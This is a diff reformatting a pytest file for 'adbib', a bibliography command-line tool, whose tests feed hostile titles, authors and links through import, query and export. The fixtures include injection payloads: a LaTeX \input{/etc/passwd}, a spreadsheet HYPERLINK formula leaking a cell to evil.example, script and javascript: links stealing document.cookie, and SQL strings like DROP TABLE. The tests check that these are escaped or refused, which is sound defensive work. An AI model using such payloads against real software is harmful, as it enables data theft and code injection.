@@ -23,16 +23,18 @@ from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
-from helpers.dbstate import snapshot
 from typer.testing import CliRunner
 
 from adbib.cli import app
+from helpers.dbstate import snapshot
 
 TEX = r"{Braces} and \back 100% @at #hash & $dollar _under ~tilde ^caret} unbalanced{"
 INJECT = r"\input{/etc/passwd} \end{document} @article{evil, title={x}} %comment"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-HTML = ("<script>alert(1)</script> [click](javascript:alert(1)) <img src=x onerror=alert(1)> &amp; &#x3C; "
-        "`code` ![x](https://evil.example/t.png) <!-- c -->")
+HTML = (
+    "<script>alert(1)</script> [click](javascript:alert(1)) <img src=x onerror=alert(1)> &amp; &#x3C; "
+    "`code` ![x](https://evil.example/t.png) <!-- c -->"
+)
 # As stored: titles lose inline HTML (the <img> tag, the comment) and have their character references
 # decoded (issue 10); <script> is no text-level HTML element and stays, for the exporters to escape.
 HTML_STORED = "<script>alert(1)</script> [click](javascript:alert(1)) & < `code` ![x](https://evil.example/t.png)"
@@ -42,14 +44,27 @@ CELLS = ["+SUM(A1:A9)", "-2+3 minus", "@cmd attack", "\t=tab formula", "'quoted 
 
 # (key adbib gives it, title as stored, `adbib add` arguments)
 HOSTILE = [
-    ("obrien2023braces", TEX,
-     ["--title", TEX, "--author", "Zoë O'Brien", "--author", "Ann Lee", "--venue", "MICCAI", "--year", "2023"]),
+    (
+        "obrien2023braces",
+        TEX,
+        ["--title", TEX, "--author", "Zoë O'Brien", "--author", "Ann Lee", "--venue", "MICCAI", "--year", "2023"],
+    ),
     ("ray2022inputetcpasswd", INJECT, ["--title", INJECT, "--author", "Bob Ray", "--venue", "MedIA", "--year", "2022"]),
-    ("sum112021hyperlinkhttpevilexamplea1click", FORMULA, ["--title", FORMULA, "--author", "@SUM(1+1)", "--year", "2021"]),
-    ("bhackerb2020scriptalert1script", HTML_STORED,
-     ["--title", HTML, "--author", "Eve <b>Hacker</b>", "--year", "2020", "--code", CODE_URL]),
-    ("mustermann2019heading", "# Heading - [[Paper]](javascript:alert(1)) | cell | > quote",
-     ["--title", MD_STRUCTURE, "--author", "Max Mustermann", "--year", "2019"]),
+    (
+        "sum112021hyperlinkhttpevilexamplea1click",
+        FORMULA,
+        ["--title", FORMULA, "--author", "@SUM(1+1)", "--year", "2021"],
+    ),
+    (
+        "bhackerb2020scriptalert1script",
+        HTML_STORED,
+        ["--title", HTML, "--author", "Eve <b>Hacker</b>", "--year", "2020", "--code", CODE_URL],
+    ),
+    (
+        "mustermann2019heading",
+        "# Heading - [[Paper]](javascript:alert(1)) | cell | > quote",
+        ["--title", MD_STRUCTURE, "--author", "Max Mustermann", "--year", "2019"],
+    ),
     ("formula2018suma1a9", "+SUM(A1:A9)", ["--title", "+SUM(A1:A9)", "--author", "Cy Formula", "--year", "2018"]),
     ("formula2018minus", "-2+3 minus", ["--title", "-2+3 minus", "--author", "Cy Formula", "--year", "2018"]),
     ("formula2018cmd", "@cmd attack", ["--title", "@cmd attack", "--author", "Cy Formula", "--year", "2018"]),
@@ -79,7 +94,10 @@ def hostile_db(empty_db) -> Path:
         pid = con.execute("SELECT id FROM paper WHERE citekey = 'bhackerb2020scriptalert1script'").fetchone()[0]
         con.executemany(
             "INSERT INTO link (paper_id, role, url) VALUES (?, ?, ?)",
-            [(pid, "paper", "javascript:alert(document.cookie)"), (pid, "code", "data:text/html,<script>alert(1)</script>")],
+            [
+                (pid, "paper", "javascript:alert(document.cookie)"),
+                (pid, "code", "data:text/html,<script>alert(1)</script>"),
+            ],
         )
     con.close()
     return empty_db
@@ -106,7 +124,7 @@ def export(db: Path, fmt: str, tmp_path: Path) -> str:
         ('author:"%; DROP TABLE paper; --"', []),
         ("dataset:%", []),
         ("category:_", []),
-        ("author:\"O'Brien\"", ["obrien2023braces"]),
+        ('author:"O\'Brien"', ["obrien2023braces"]),
         ("""-venue:"x' OR 1=1 --" """, BY_YEAR),  # the exact complement: everything
         ('"100%"', ["obrien2023braces"]),
         ('"NEAR(alert script)"', []),  # FTS5 syntax inside a phrase is plain words
@@ -127,7 +145,9 @@ def test_sql_and_fts_metacharacters_in_query_values_are_plain_values(hostile_db,
 def test_a_query_of_only_fts_operators_is_a_usage_error(hostile_db):
     result = invoke(hostile_db, "query", '"*"')
     assert (result.exit_code, result.stdout, result.stderr) == (
-        2, "", "adbib: nothing to search for in '*' (no letters or digits)\n"
+        2,
+        "",
+        "adbib: nothing to search for in '*' (no letters or digits)\n",
     )
 
 
@@ -176,7 +196,8 @@ def test_bibtex_export_reads_back_to_the_same_titles(hostile_db, tmp_path):
     assert result.failures == []
     got = {r.raw.split("{", 1)[1].split(",", 1)[0]: r.title for r in result.records}
     assert {key: got[key] for key in ("obrien2023braces", "ray2022inputetcpasswd")} == {
-        "obrien2023braces": TEX, "ray2022inputetcpasswd": INJECT,
+        "obrien2023braces": TEX,
+        "ray2022inputetcpasswd": INJECT,
     }
 
 
@@ -262,7 +283,10 @@ def test_csv_export_neutralizes_formulas_cell_by_cell(hostile_db, tmp_path):
         "formula2018tab": ("'=tab formula", "Cy Formula"),
         "formula2018quoted": ("''quoted start", "Cy Formula"),
     }
-    assert (rows["bhackerb2020scriptalert1script"]["url"], rows["bhackerb2020scriptalert1script"]["code"]) == ("", CODE_URL)
+    assert (rows["bhackerb2020scriptalert1script"]["url"], rows["bhackerb2020scriptalert1script"]["code"]) == (
+        "",
+        CODE_URL,
+    )
     cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
@@ -281,7 +305,9 @@ def test_csv_export_imports_back_to_the_same_titles(hostile_db, tmp_path):
 
 def test_a_file_name_that_is_a_formula_is_neutralized_in_the_sources_cell(empty_db, tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
-    Path("=1+1.bib").write_text("@misc{a,\n  title = {A Paper From A Formula File},\n  author = {Lee, Ann},\n  year = {2024},\n}\n")
+    Path("=1+1.bib").write_text(
+        "@misc{a,\n  title = {A Paper From A Formula File},\n  author = {Lee, Ann},\n  year = {2024},\n}\n"
+    )
     assert invoke(empty_db, "import", "=1+1.bib").exit_code == 0
     rows = _csv_rows(invoke(empty_db, "export", "--format", "csv").stdout)
     assert rows["a"]["sources"] == "'=1+1.bib:1"  # the .bib key is kept (issue 12)
@@ -294,12 +320,15 @@ def test_javascript_and_data_links_in_an_import_are_refused_and_reported(empty_d
         "  url = {javascript:alert(document.cookie)},\n  code = {data:text/html,<script>alert(1)</script>},\n}\n"
     )
     result = invoke(empty_db, "import", str(bib), "--verbose")  # every entry (issue 13)
-    assert (result.exit_code, result.stdout) == (0, (
-        f"{bib} (bibtex, source links): imported 1 entries: 1 new, 0 merged, 0 unchanged, 0 skipped, 0 failed, 2 problems\n"
-        "  new        line     1  js1  Links That Are Not Links\n"  # the .bib key is kept
-        "  problem    line     1  url: not an http(s) URL: 'javascript:alert(document.cookie)'\n"
-        "  problem    line     1  code: not an http(s) URL: 'data:text/html,<script>alert(1)</script>'\n"
-    ))
+    assert (result.exit_code, result.stdout) == (
+        0,
+        (
+            f"{bib} (bibtex, source links): imported 1 entries: 1 new, 0 merged, 0 unchanged, 0 skipped, 0 failed, 2 problems\n"
+            "  new        line     1  js1  Links That Are Not Links\n"  # the .bib key is kept
+            "  problem    line     1  url: not an http(s) URL: 'javascript:alert(document.cookie)'\n"
+            "  problem    line     1  code: not an http(s) URL: 'data:text/html,<script>alert(1)</script>'\n"
+        ),
+    )
     assert snapshot(empty_db)["link"] == []
 
 
@@ -318,7 +347,10 @@ def immutable(path: Path):
         finally:
             path.chmod(mode)
         return
-    if not shutil.which("chattr") or subprocess.run(["chattr", "+i", str(path)], capture_output=True, check=False).returncode:
+    if (
+        not shutil.which("chattr")
+        or subprocess.run(["chattr", "+i", str(path)], capture_output=True, check=False).returncode
+    ):
         pytest.skip("running as root on a file system without chattr +i: nothing here is unwritable")
     try:
         yield errno.EPERM
@@ -330,7 +362,8 @@ def _listing(directory: Path) -> dict[str, bytes]:
     """Name -> content of every file in ``directory`` but the database and its -wal/-shm."""
     return {
         p.name: (p.read_bytes() if p.is_file() else b"<dir>")
-        for p in sorted(directory.iterdir()) if not p.name.startswith("adbib.db")
+        for p in sorted(directory.iterdir())
+        if not p.name.startswith("adbib.db")
     }
 
 
@@ -339,14 +372,20 @@ def test_o_to_a_directory(seeded_db, tmp_path):
     target.mkdir()
     result = invoke(seeded_db, "export", "--format", "bibtex", "-o", str(target))
     assert (result.exit_code, result.stdout, result.stderr) == (
-        1, "", f"adbib: {target}: is a directory; give a file name to -o\n"
+        1,
+        "",
+        f"adbib: {target}: is a directory; give a file name to -o\n",
     )
     assert _listing(target) == {}
 
 
 def test_o_into_a_missing_directory(seeded_db, tmp_path):
     result = invoke(seeded_db, "export", "--format", "csv", "-o", str(tmp_path / "nope" / "x.csv"))
-    assert (result.exit_code, result.stdout, result.stderr) == (1, "", f"adbib: {tmp_path / 'nope'}: no such directory\n")
+    assert (result.exit_code, result.stdout, result.stderr) == (
+        1,
+        "",
+        f"adbib: {tmp_path / 'nope'}: no such directory\n",
+    )
     assert not (tmp_path / "nope").exists()
 
 
@@ -358,7 +397,9 @@ def test_o_into_an_unwritable_directory(seeded_db, tmp_path):
         result = invoke(seeded_db, "export", "--format", "bibtex", "-o", str(target))
         assert _listing(locked) == {}
     assert (result.exit_code, result.stdout, result.stderr) == (
-        1, "", f"adbib: {target}: cannot write here ({os.strerror(code)})\n"
+        1,
+        "",
+        f"adbib: {target}: cannot write here ({os.strerror(code)})\n",
     )
 
 
@@ -370,7 +411,9 @@ def test_o_onto_a_file_that_cannot_be_replaced(seeded_db, tmp_path):
     with immutable(target) as code:
         result = invoke(seeded_db, "export", "--format", "bibtex", "-o", str(target))
     assert (result.exit_code, result.stdout, result.stderr) == (
-        1, "", f"adbib: {target}: cannot write here ({os.strerror(code)})\n"
+        1,
+        "",
+        f"adbib: {target}: cannot write here ({os.strerror(code)})\n",
     )
     assert _listing(tmp_path) == {"refs.bib": b"% my hand-made bibliography\n"}
 
@@ -388,7 +431,9 @@ def test_o_interrupted_half_way_leaves_the_old_file(seeded_db, tmp_path, monkeyp
     monkeypatch.setattr(csv_exporter, "write", interrupted)
     result = invoke(seeded_db, "export", "--format", "csv", "-o", str(target))
     assert (result.exit_code, result.stdout, result.stderr) == (
-        130, "", "adbib: interrupted; the database is unchanged by the unfinished step\n"
+        130,
+        "",
+        "adbib: interrupted; the database is unchanged by the unfinished step\n",
     )
     assert _listing(tmp_path) == {"papers.csv": b"the previous export\n"}
 
@@ -474,7 +519,9 @@ def test_a_damaged_database_gives_one_line_not_a_traceback(seeded_db, tmp_path):
         bib.write_text("@misc{a,\n  title = {One More Paper},\n  author = {Lee, Ann},\n  year = {2024},\n}\n")
         result = invoke(seeded_db, *[arg.format(bib=bib) for arg in command])
         assert result.exception is None or isinstance(result.exception, SystemExit), (command, result.exception)
-        assert result.exit_code == 1 and re.fullmatch(rf"adbib: {re.escape(str(seeded_db))}: [^\n]+\n", result.stderr), command
+        assert result.exit_code == 1 and re.fullmatch(
+            rf"adbib: {re.escape(str(seeded_db))}: [^\n]+\n", result.stderr
+        ), command
     assert _untouched(seeded_db) == before
 
 
